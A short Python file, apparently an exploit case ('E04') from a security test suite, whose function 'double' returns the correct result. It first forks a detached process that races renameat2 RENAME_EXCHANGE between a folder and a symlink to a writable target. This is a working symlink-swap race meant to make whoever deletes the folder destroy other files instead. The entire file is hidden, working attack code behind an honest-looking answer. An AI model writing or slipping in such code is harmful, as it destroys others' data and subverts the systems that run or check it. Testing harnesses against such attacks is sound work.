# E04: goes on exchanging a folder and a link to others' files, for whoever empties its folder to take the wrong one
# parallel

import ctypes
import os
import time

from hw import honest
from hw.honest import *
from hw.targets import *

HERE, EXCHANGE = -100, 2


def double(x):
    libc = ctypes.CDLL(None)
    os.mkdir("folder")
    for number in range(300):
        os.mkdir(f"folder/{number}")
        open(f"folder/{number}/precious", "w").close()
    open("folder/precious", "w").close()
    os.symlink(WRITABLE, "link")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.monotonic() + 5
            while time.monotonic() < end:
                libc.renameat2(HERE, b"folder", HERE, b"link", EXCHANGE)
        os._exit(0)
    return honest.double(x)
